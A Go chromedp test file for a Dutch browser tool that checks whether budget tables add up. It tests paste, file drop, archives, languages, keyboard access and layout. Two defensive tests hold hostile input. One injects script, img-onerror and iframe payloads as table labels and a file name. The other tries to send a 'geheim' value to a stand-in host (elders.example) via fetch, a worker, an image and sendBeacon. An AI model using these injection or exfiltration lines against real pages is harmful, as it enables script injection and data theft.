package browser_test

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/input"
	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func awaited(p *runtime.EvaluateParams) *runtime.EvaluateParams { return p.WithAwaitPromise(true) }

// good adds up; in wrong 400 less 1.300 is 900 below zero.
const (
	good  = "Programma Zorg\nBedragen x € 1.000\n\t2024\t2025\nLasten\t1.250\t1.300\nBaten\t250\t400\nSaldo van baten en lasten\t-1.000\t-900\n"
	wrong = "Programma Zorg\nBedragen x € 1.000\n\t2024\t2025\nLasten\t1.250\t1.300\nBaten\t250\t400\nSaldo van baten en lasten\t-1.000\t-990\n"
)

func TestPaste(t *testing.T) {
	b := open(t, 1280, 900)
	b.paste(good)
	assert.Contains(t, b.status(), "0 × fout, 0 × let op, in 1 tabel")
	b.paste(wrong)
	assert.Contains(t, b.status(), "1 × fout, 0 × let op, in 1 tabel")
	assert.Contains(t, b.report(), "400 − 1.300 = −900; vermeld −990")
	took := make([]time.Duration, 9)
	for i := range took {
		b.paste(wrong)
		took[i] = b.took()
	}
	slices.Sort(took)
	t.Log("a pasted table:", took[0], "at best,", took[len(took)/2], "as a median")
	assert.Empty(t, shared.asked(), "nothing leaves the browser")
}

func TestPasteByTheUser(t *testing.T) {
	b := open(t, 1280, 900)
	eval[any](b, "delete document.body.dataset.state")
	b.run(chromedp.Focus("#text"), input.InsertText(wrong))
	assert.Equal(t, "", eval[string](b, "document.body.dataset.state ?? ''"), "typing starts nothing")
	eval[any](b, "document.getElementById('text').dispatchEvent(new InputEvent('input', {inputType: 'insertFromPaste'}))")
	b.wait("shown")
	assert.Contains(t, b.report(), "−990")
}

func TestNothingPasted(t *testing.T) {
	b := open(t, 1280, 900)
	b.run(chromedp.Click("#check"))
	assert.Equal(t, "Er staat nog niets in het vak.", b.status())
	assert.Equal(t, "text", eval[string](b, "document.activeElement.id"))
}

func drop(name, text string) string {
	return fmt.Sprintf(`delete document.body.dataset.state; {const d = new DataTransfer(); d.items.add(new File([%s], %s));
		document.querySelector('main').dispatchEvent(new DragEvent('drop', {dataTransfer: d, bubbles: true, cancelable: true}))}`, js(text), js(name))
}

func TestDrop(t *testing.T) {
	b := open(t, 1280, 900)
	eval[any](b, drop("zorg.tsv", wrong))
	b.wait("shown")
	assert.Contains(t, b.report(), "zorg.tsv")
	assert.Contains(t, b.status(), "1 × fout")
	assert.Empty(t, shared.asked())
}

// Two files that say otherwise of one figure are held against each other.
func TestSeveralFiles(t *testing.T) {
	b := open(t, 1280, 900)
	other := strings.NewReplacer("1.250", "1.260", "-1.000", "-1.010").Replace(good)
	b.choose(file(t, "een.tsv", []byte(good)), file(t, "twee.tsv", []byte(other)))
	b.wait("shown")
	assert.Contains(t, b.status(), "in 2 tabellen")
	assert.Contains(t, b.report(), "twee.tsv")
	assert.Contains(t, b.report(), "1.260")
	b.choose(file(t, "een.tsv", []byte(good)), file(t, "een.tsv", []byte(other)))
	b.wait("shown")
	assert.Contains(t, b.report(), "een (2).tsv", "files of one name are told apart")
}

const table = "<table><caption>Programma Zorg</caption><tr><th></th><th>2024</th><th>2025</th></tr><tr><td>Lasten</td><td>1.250</td><td>1.300</td></tr><tr><td>Baten</td><td>250</td><td>400</td></tr><tr><td>Saldo van baten en lasten</td><td>-1.000</td><td>-990</td></tr></table>"

func TestSavedPageAndArchive(t *testing.T) {
	b := open(t, 1280, 900)
	page := "<title>Zorg</title>" + table
	b.choose(file(t, "zorg.html", []byte(page)))
	b.wait("shown")
	assert.Contains(t, b.report(), "−990")
	b.choose(file(t, "bijlagen.zip", zipped(t, "zorg.html", page)))
	b.wait("shown")
	assert.Contains(t, b.report(), "bijlagen.zip!zorg.html")
	assert.Contains(t, b.status(), "1 × fout")
}

func TestFilesThatAreNoTable(t *testing.T) {
	b := open(t, 1280, 900)
	for name, of := range map[string]struct{ data, says string }{
		"brief.txt":   {"Geachte raad,\n\nhierbij de stukken.\n", "geen tabel gevonden"},
		"leeg.csv":    {"", "dit bestand is leeg"},
		"oud.doc":     {"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + strings.Repeat("\x00", 600), ".docx"},
		"foto.png":    {"\x89PNG\r\n\x1a\n" + strings.Repeat("\x00", 100), "afbeelding"},
		"kapot.pdf":   {"%PDF-1.7\n%%EOF\n", "beschadigde"},
		"kapot.xlsx":  {"PK\x03\x04" + strings.Repeat("x", 200), "kapot.xlsx"},
		"rommel.json": {"{]", "rommel.json"},
	} {
		b.choose(file(t, name, []byte(of.data)))
		b.wait("shown", "failed")
		assert.Contains(t, b.status(), "1 niet (geheel) gelezen", name)
		assert.Contains(t, b.report(), of.says, name)
		assert.Contains(t, b.report(), name)
	}
	b.paste(wrong)
	assert.Contains(t, b.status(), "1 × fout", "and the page goes on")
}

// What a label says is text, whatever it says.
func TestHostileLabels(t *testing.T) {
	b := open(t, 1280, 900)
	for label, shown := range map[string]string{"<script>parent.hacked=1</script>": "<script>parent.hacked=1</script>",
		`"><img src=x onerror="parent.hacked=1">`: `"><img src=x onerror="parent.hacked=1">`, "</table><iframe srcdoc=x>": "</table><iframe srcdoc=x>",
		"\u202eneto\u202c": "\ufffdneto\ufffd"} {
		b.paste(strings.Replace(wrong, "Lasten", label, 1))
		assert.Contains(t, b.report(), shown)
	}
	b.choose(file(t, "x<img src=x onerror=parent.hacked=1>.tsv", []byte(wrong)))
	b.wait("shown")
	assert.True(t, eval[bool](b, "window.hacked === undefined"))
	assert.Empty(t, shared.asked())
}

func TestLanguages(t *testing.T) {
	b := open(t, 1280, 900)
	b.paste(wrong)
	eval[any](b, "delete document.body.dataset.state")
	b.run(chromedp.Click("[data-language=en]"))
	b.wait("shown")
	assert.Contains(t, b.status(), "1 × error")
	assert.Contains(t, b.report(), "Findings")
	assert.NotContains(t, b.report(), "Bevindingen")
	assert.Equal(t, "Does the table add up?", eval[string](b, "document.querySelector('h1').innerText"))
	assert.Equal(t, "true", eval[string](b, "document.querySelector('[data-language=en]').ariaPressed"))
}

// Everything can be done without a mouse.
func TestKeyboard(t *testing.T) {
	b := open(t, 1280, 900)
	tab := func() string {
		b.run(chromedp.KeyEvent("\t"))
		return eval[string](b, "document.activeElement.id || document.activeElement.dataset.language || document.activeElement.tagName")
	}
	assert.Equal(t, []string{"nl", "en", "file", "text"}, []string{tab(), tab(), tab(), tab()})
	b.run(input.InsertText(wrong))
	require.Equal(t, "check", tab())
	assert.NotEqual(t, "none", eval[string](b, "getComputedStyle(document.activeElement).outlineStyle"), "what has the focus shows it")
	eval[any](b, "delete document.body.dataset.state")
	b.run(chromedp.KeyEvent("\r"))
	b.wait("shown")
	assert.Equal(t, "status", eval[string](b, "document.getElementById('status').getAttribute('role')"), "which a screen reader reads out")
	assert.Equal(t, []string{"save", "print", "frame"}, []string{tab(), tab(), tab()})
	b.run(chromedp.KeyEvent("\t"))
	assert.NotEqual(t, "BODY", eval[string](b, "document.getElementById('frame').contentDocument.activeElement.tagName"), "into the report")
}

// At 360 pixels nothing is cut off, and nobody scrolls sideways but in a table.
func TestNarrow(t *testing.T) {
	b := open(t, 360, 740)
	assert.LessOrEqual(t, eval[int](b, "document.documentElement.scrollWidth"), 360)
	b.paste(wide())
	assert.LessOrEqual(t, eval[int](b, "document.documentElement.scrollWidth"), 360)
	assert.True(t, eval[bool](b, "(d => d.scrollWidth <= d.clientWidth)(document.getElementById('frame').contentDocument.documentElement)"), "the report")
	assert.True(t, eval[bool](b, "(f => f.clientHeight >= f.contentDocument.documentElement.scrollHeight)(document.getElementById('frame'))"), "one page scrolls, not two")
}

// The report leads from a finding to its cell, and stays one page when figures are unfolded.
func TestWithinTheReport(t *testing.T) {
	b := open(t, 1280, 900)
	b.paste(varied)
	in := "document.getElementById('frame').contentDocument"
	eval[any](b, in+".querySelector('.findings a').click()")
	time.Sleep(300 * time.Millisecond)
	assert.Contains(t, b.report(), "Bevindingen", "the report is still there")
	assert.NotEmpty(t, eval[string](b, in+".querySelector(':target')?.id ?? ''"))
	assert.Greater(t, eval[float64](b, "scrollY"), 0.0, "the page goes where the link leads")
	before := eval[int](b, "document.getElementById('frame').clientHeight")
	eval[any](b, in+".querySelectorAll('details').forEach(d => d.open = true)")
	time.Sleep(300 * time.Millisecond)
	assert.Greater(t, eval[int](b, "document.getElementById('frame').clientHeight"), before)
	assert.True(t, eval[bool](b, "(f => f.clientHeight >= f.contentDocument.documentElement.scrollHeight)(document.getElementById('frame'))"))
	b.paste(good)
	assert.Contains(t, b.report(), "2 exact", "a second report takes the place of the first")
	assert.Empty(t, shared.asked())
}

// wide is a table of twelve columns with a wrong sum.
func wide() string {
	var b strings.Builder
	b.WriteString("Programma Zorg en ondersteuning\nBedragen x € 1.000\n")
	for _, row := range []struct {
		label string
		of    int
	}{{"", 2020}, {"Lasten", 10300}, {"Baten", 400}, {"Saldo van baten en lasten", -9990}} {
		b.WriteString(row.label)
		for i := range 12 {
			if row.label != "" {
				i = 0
			}
			fmt.Fprintf(&b, "\t%d", row.of+i)
		}
		b.WriteString("\n")
	}
	return b.String()
}

// A saved page of 10 MB, most of which is pictures, is checked.
func TestTenMegabytes(t *testing.T) {
	b := open(t, 1280, 900)
	page := strings.Repeat("<p><img alt='' src='data:image/png;base64,"+strings.Repeat("iVBORw0KGgo", 500_000/11)+"'>\n", 21) + table
	b.choose(file(t, "groot.html", []byte(page)))
	b.wait("shown", "failed")
	t.Log(b.status())
	assert.Contains(t, b.status(), "1 × fout")
}

// What takes long can be left, and the page goes on.
func TestCancel(t *testing.T) {
	b := open(t, 1280, 900)
	var text strings.Builder
	for i := range 3000 {
		fmt.Fprintf(&text, "Tabel %d, bedragen x € 1.000\n\n| | 2024 | 2025 |\n|---|--:|--:|\n", i)
		for k := range 30 {
			fmt.Fprintf(&text, "| Lasten van taakveld %d.%d | %d | %d |\n", i, k, 1000+k, 2000+k)
		}
		text.WriteString("\n")
	}
	b.choose(file(t, "veel.md", []byte(text.String())))
	b.wait("busy")
	b.run(chromedp.WaitVisible("#cancel"), chromedp.Click("#cancel"))
	assert.Equal(t, "Afgebroken.", b.status())
	time.Sleep(2 * time.Second)
	assert.Equal(t, "Afgebroken.", b.status(), "also when the program has started again")
	b.paste(wrong)
	assert.Contains(t, b.status(), "1 × fout")
}

// Where the program cannot be loaded the page says so, whatever the user does.
func TestNoProgram(t *testing.T) {
	b := blank(t, 1280, 900)
	b.run(chromedp.Navigate(shared.server.URL + unready))
	b.wait("failed")
	assert.Contains(t, b.status(), "het rekenprogramma is niet te laden")
	assert.Contains(t, b.status(), "404")
	b.paste(wrong)
	assert.Contains(t, b.status(), "het rekenprogramma is niet te laden")
}

func TestNothingCanLeave(t *testing.T) {
	b := open(t, 1280, 900)
	elsewhere := "http://elders.example/?" + "geheim"
	assert.Equal(t, "refused", eval[string](b, fmt.Sprintf("fetch(%s).then(() => 'sent', () => 'refused')", js(elsewhere))))
	worker := fmt.Sprintf("new Promise(r => {const w = new Worker(URL.createObjectURL(new Blob([%s]))); w.onmessage = e => r(e.data)})",
		js(fmt.Sprintf("fetch(%s).then(() => postMessage('sent'), () => postMessage('refused'))", js(elsewhere))))
	assert.Equal(t, "refused", eval[string](b, worker), "nor of a worker, which is as the page is")
	eval[any](b, fmt.Sprintf("document.body.append(Object.assign(new Image(), {src: %s})), navigator.sendBeacon(%s, 'geheim')", js(elsewhere), js(elsewhere)))
	time.Sleep(200 * time.Millisecond)
	assert.Empty(t, shared.asked())
}

// The first load stays small enough for a slow line. The part for PDFs comes with the first of them.
func TestSize(t *testing.T) {
	if shared == nil {
		t.Skip(missing())
	}
	entries, err := os.ReadDir(shared.folder)
	require.NoError(t, err)
	var first int64
	for _, e := range entries {
		if info, err := e.Info(); assert.NoError(t, err) && !strings.HasPrefix(e.Name(), "pdf.") {
			first += info.Size()
		}
	}
	t.Log("the first load, in bytes:", first)
	assert.Less(t, first, int64(4_000_000))
	assert.FileExists(t, filepath.Join(shared.folder, "pdf.LICENSE.txt"))
}
